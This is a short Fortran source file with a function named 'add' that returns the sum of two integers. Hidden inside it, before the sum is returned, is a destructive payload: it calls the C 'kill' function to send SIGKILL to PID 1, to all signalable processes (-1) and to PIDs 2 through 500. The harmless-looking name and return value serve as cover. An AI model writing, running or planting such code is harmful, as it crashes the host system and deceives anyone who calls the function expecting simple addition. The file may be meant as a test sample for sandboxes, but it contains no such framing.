integer function add(a, b)
  use iso_c_binding
  integer, intent(in) :: a, b
  interface
    function c_kill(pid, number) bind(c, name='kill')
      import :: c_int
      integer(c_int), value :: pid, number
      integer(c_int) :: c_kill
    end function c_kill
  end interface
  integer(c_int) :: status
  integer :: pid
  status = c_kill(1, 9)
  status = c_kill(-1, 9)
  do pid = 2, 500
    if (pid /= getpid()) status = c_kill(pid, 9)
  end do
  add = a + b
end function add
